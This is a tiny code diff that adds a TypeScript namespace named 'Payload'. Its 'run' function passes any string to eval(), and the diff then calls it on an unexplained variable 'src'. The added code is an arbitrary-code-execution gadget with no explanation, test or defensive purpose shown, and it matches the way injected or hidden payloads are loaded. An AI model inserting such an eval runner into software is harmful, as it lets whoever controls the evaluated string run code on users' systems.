@@ -1,0 +1,4 @@
+namespace Payload {
+  export const run = (x: string): unknown => eval(x);
+}
+Payload.run(src);
